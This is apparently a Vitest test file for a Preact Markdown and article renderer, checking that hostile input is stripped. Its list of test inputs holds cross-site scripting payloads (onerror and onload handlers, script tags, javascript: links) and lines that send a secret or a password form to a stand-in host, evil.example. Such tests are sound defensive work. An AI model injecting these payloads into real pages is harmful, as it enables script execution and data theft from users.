import { render, screen } from "@testing-library/preact";
import { expect, test } from "vitest";
import { parseMarkdown } from "@shared/text/markdown";
import { testChat } from "../testing/test-chat";
import { drawArticle } from "./article-html";
import { RichText } from "./rich-text";

function draw(text: string) {
  const { Provider } = testChat();
  const blocks = parseMarkdown(text, { citations: new Set([1, 2]) });
  return render(
    <Provider>
      <RichText blocks={blocks} cite={(n) => <button>{n}</button>} />
    </Provider>,
  ).container;
}

const hostile = [
  `<img src=x onerror="document.title='owned'">`,
  `<script>document.title='owned'</script>`,
  `[x](javascript:document.title='owned')`,
  `![x](https://evil.example/?d=secret)`,
  `<a href="https://evil.example" onclick="x()">x</a>`,
  `<iframe src="https://evil.example"></iframe><svg onload=x()><style>*{display:none}</style>`,
  `<form action=https://evil.example><input name=password></form><base href=https://evil.example>`,
];

test.each(hostile)("as Markdown: %s", (text) => {
  const container = draw(text);
  expect(container.querySelector("img, script, iframe, svg:not(.lucide), style, form, input, base")).toBeNull();
  for (const element of container.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) expect(`${name}=${value}`).not.toMatch(/^on|javascript:/i);
  }
});

test.each(hostile)("as an article: %s", (html) => {
  const { container } = render(<div>{drawArticle(html)}</div>);
  expect(container.querySelector("img, script, iframe, svg, style, form, input, base")).toBeNull();
  for (const element of container.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) expect(`${name}=${value}`).not.toMatch(/^on|javascript:/i);
  }
});

test("an article shows pictures that are kept here, and no others", () => {
  const id = "0b0e7a3c-7f0e-4d52-9b5e-0a2f6d1c4e11";
  const { container } = render(<div>{drawArticle(`<p><img src="/files/${id}/${id}" alt="Label" onerror="alert(1)"><img src="https://evil.test/files/${id}/${id}" alt="Theirs"></p>`)}</div>);
  expect(container.innerHTML).toBe(`<div><p><img class="article-picture" src="/files/${id}/${id}" alt="Label" loading="lazy">Theirs</p></div>`);
});

test("links open elsewhere and tell nobody", () => {
  draw("[shop](https://juniper.example/a)");
  const link = screen.getByRole("link", { name: "shop" });
  expect(link).toHaveAttribute("rel", expect.stringContaining("noopener"));
  expect(link).toHaveAttribute("target", "_blank");
});

test("a citation stays with the word before it", () => {
  const container = draw("Within **two days** [1], usually sooner[1][2]. 两天内送达[2]。");
  const glued = [...container.querySelectorAll(".glued")].map((run) => run.textContent);
  expect(glued).toEqual(["two days1", "sooner12", "达2"]);
});

test("an article keeps its structure, ids and safe links; its headings go below the panel's title", () => {
  const { container } = render(<div>{drawArticle('<h1>A</h1><h2 id="late">B</h2><p>c <a href="https://a.example">d</a> <a href="/x">e</a></p>')}</div>);
  expect(container.innerHTML).toBe(
    '<div><h3>A</h3><h3 id="late">B</h3><p>c <a href="https://a.example/" target="_blank" rel="noopener noreferrer nofollow">d</a> <span>e</span></p></div>',
  );
});
